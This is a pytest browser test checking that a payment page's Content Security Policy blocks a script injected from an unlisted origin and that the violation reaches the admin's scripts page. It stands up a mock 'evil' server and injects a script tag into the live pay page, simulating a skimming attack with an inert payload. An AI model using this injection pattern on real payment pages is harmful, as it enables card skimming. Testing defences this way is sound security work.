"""The pay page's CSP in a real browser: a script injected from an origin outside the
inventory is blocked by Chromium, whose violation report reaches our endpoint and shows
on the admin's pay page scripts page."""

from __future__ import annotations

import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from browserkit import NO_MFA, DemoServer, hosted_field, sign_in, take_link_payment

pytestmark = pytest.mark.browser

ADMIN = ("admin@example.com", "demo-admin-pass")


class _Evil(BaseHTTPRequestHandler):
    """Serves a script the pay page must never run (and counts who asked for it)."""

    fetched = 0

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        type(self).fetched += 1
        body = b"document.title = 'skimmed';"
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def evil_origin() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Evil)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def scripts_demo(tmp_path_factory: pytest.TempPathFactory, browser: Any) -> Iterator[DemoServer]:
    server = DemoServer(tmp_path_factory.mktemp("scripts"), env=NO_MFA).start()
    yield server
    server.stop()


def test_a_blocked_script_is_reported_by_the_browser_and_shown_to_the_admin(
    scripts_demo: DemoServer,
    agent_context: Any,
    customer_context: Any,
    evil_origin: str,
    shoot: Callable[[Any, str], Path],
) -> None:
    demo = scripts_demo
    agent = agent_context.new_page()
    sign_in(agent, demo.base, "/pay/agent/customers/CUST-0004")
    payment_id = take_link_payment(agent, demo.base, "CUST-0004", invoices=("INV-1006",))
    pay_url = demo.pay_url_for(payment_id)

    customer = customer_context.new_page()
    customer.goto(pay_url)
    hosted_field(customer, "number")  # the pinned scripts ran: the hosted fields are up
    evil = f"{evil_origin}/x.js"
    customer.evaluate(
        "src => { const s = document.createElement('script'); s.src = src;"
        " document.body.appendChild(s); }",
        evil,
    )
    time.sleep(0.5)
    assert _Evil.fetched == 0, "the browser fetched a script the CSP does not allow"
    assert customer.title() != "skimmed"

    admin_context = customer_context.browser.new_context(viewport={"width": 1280, "height": 720})
    try:
        admin = admin_context.new_page()
        sign_in(admin, demo.base, "/pay/admin/scripts", user=ADMIN)
        deadline = time.monotonic() + 15  # report-uri reports go out at once
        while admin.locator("#violations tr[data-violation]").count() == 0:
            assert time.monotonic() < deadline, "no CSP report arrived:\n" + demo.log_since_ready()
            time.sleep(0.5)
            admin.reload()
        row = admin.locator("#violations tr[data-violation]").first
        assert evil in row.inner_text()
        assert "script-src" in row.inner_text()
        assert "/pay/p/<token>" in row.inner_text()  # the link token is not stored
        assert pay_url.rsplit("/", 1)[1] not in admin.content()
        assert admin.locator('#scripts tr[data-script="hosted-fields"]').count() == 1
        assert admin.locator('#scripts tr[data-script="pay.js"]').count() == 1
        admin.click("#check-now")  # the worker checks hourly; the admin can ask now
        admin.wait_for_selector('#scripts tr[data-script="pay.js"][data-status="ok"]')
        # hosted fields, pay.js and pay_wallets.js (loaded only on a page offering a wallet)
        assert admin.locator('#scripts tr[data-status="ok"]').count() == 3
        shoot(admin, "admin-pay-page-scripts")
        admin.goto(f"{demo.base}/pay/admin/")
        assert "security policy blocked" in admin.locator("#alerts").inner_text()
    finally:
        admin_context.close()
